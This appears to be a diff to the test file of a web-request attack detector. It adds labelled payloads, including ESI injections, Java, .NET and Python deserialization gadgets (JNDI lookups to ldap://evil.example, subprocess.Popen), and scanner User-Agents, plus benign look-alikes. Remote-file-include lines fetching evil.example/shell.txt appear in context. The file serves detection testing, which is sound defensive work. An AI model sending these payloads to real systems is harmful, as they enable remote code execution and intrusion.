@@ -395,6 +395,14 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['generic-node-dos', '/api?x=while(i<Infinity)%20i%2B%2B'],
   ['rfi-include-param', '/index.php?pagina=http://evil.example/shell.txt'],
   ['rfi-include-param', '/index.php?path_to_root=http://evil.example/shell.txt'],
+  // Batch 11: edge-side includes, objects that JSON and XML binders build from a class the document names.
+  ['generic-esi-include', '/search?q=<esi:include%20src="http://evil.example/"/>'],
+  ['generic-esi-include', "/search?q=<!--esi%20$add_header('Location','http://evil.example')%20-->"],
+  ['java-deserialization-gadget', '/api?x={"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}'],
+  ['java-deserialization-gadget', '/api?x=["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://evil.example/a"}]'],
+  ['java-deserialization-gadget', '/api?x=<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags></jdk.nashorn.internal.objects.NativeString></entry></map>'],
+  ['generic-dotnet-deserialization', '/api?x={"$type":"System.Windows.Data.ObjectDataProvider,%20PresentationFramework","MethodName":"Start"}'],
+  ['generic-python', '/api?x={"py/reduce":[{"py/type":"subprocess.Popen"},{"py/tuple":[["id"]]}]}'],
 ];
 
 /** Attacks in the User-Agent, for the detectors that read only that field. */
@@ -405,6 +413,9 @@ const USER_AGENT_ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['rce-lone-command', 'whoami'],
   ['rce-command-chain-ua', 'Mozilla/5.0 | id'],
   ['java-jndi-lookup', '&#x24;&#0000000000000000000000123;jndi:ldap://evil.example/a}'], // zero-padded character references
+  ['scanner-ua', 'wafw00f'],
+  ['scanner-ua', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) xray/1.9.11'],
+  ['scanner-ua', 'Mozilla/5.0 SF/2.10b'],
 ];
 
 const BENIGN: readonly string[] = [
@@ -626,6 +637,12 @@ const BENIGN: readonly string[] = [
   '/search?q=shop%20while%20(stocks%20last);%20free%20shipping',
   '/cal?filter=type:event=1',
   '/index.php?url=http://partner.example/feed.xml',
+  '/p?ld={"@type":"Product","name":"Desk%20lamp"}',
+  '/p?ld={"@context":"https://schema.org","@type":"schema:Product"}',
+  '/api?x={"$type":"MyApp.Models.Order,%20MyApp"}',
+  '/search?q=esi%20tags%20in%20varnish',
+  '/search?q=javax.servlet%20tutorial',
+  '/search?q=py/reduce',
 ];
 
 describe('rule families', () => {
